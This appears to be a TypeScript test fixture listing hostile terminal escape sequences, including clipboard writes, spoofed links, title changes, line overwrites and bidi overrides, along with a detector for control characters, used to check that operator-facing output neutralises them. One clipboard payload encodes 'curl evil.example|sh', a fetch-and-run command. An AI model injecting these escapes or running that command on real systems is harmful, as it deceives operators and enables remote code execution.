import { type RandomSource, randomInt } from "../../lib/core/random.js";

/*
 * Text a hostile receiver or producer puts where an operator's terminal will show it (issue #31,
 * finding 7): each one an escape a terminal obeys, shown raw. A human-readable rendering must show
 * them as visible escapes; JSON output must carry them exactly.
 */

/** Hostile strings, one per kind of escape. */
export const HOSTILE_TEXTS: readonly string[] = [
  // OSC 52: writes the operator's clipboard.
  "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007",
  // OSC 8: a link whose text says one thing and whose target another.
  "\u001b]8;;https://evil.example/\u001b\\https://partner.example/\u001b]8;;\u001b\\",
  // OSC 0: the window title.
  "\u001b]0;ricochet: all delivered\u0007",
  // CSI: cursor up and erase the line, then a fake line.
  "\u001b[1A\u001b[2Kstatus: delivered",
  // C1 CSI in one code point, and a line feed that would start a line of its own.
  "\u009b2J\nstatus: delivered",
  // A bidirectional override that reorders what follows.
  "\u202edelivered\u202c",
];

/** One of {@link HOSTILE_TEXTS}, drawn from `random`. */
export const hostileText = (random: RandomSource): string =>
  HOSTILE_TEXTS[randomInt(random, 0, HOSTILE_TEXTS.length - 1)] as string;

/**
 * The first character a terminal would obey in `text`, other than the line feeds a rendering's own
 * layout uses (C0 and C1 controls, DEL, the bidirectional controls), or undefined when none.
 */
export const firstControl = (text: string): string | undefined =>
  // biome-ignore lint/suspicious/noControlCharactersInRegex: the controls are what it looks for.
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/u.exec(
    text,
  )?.[0];
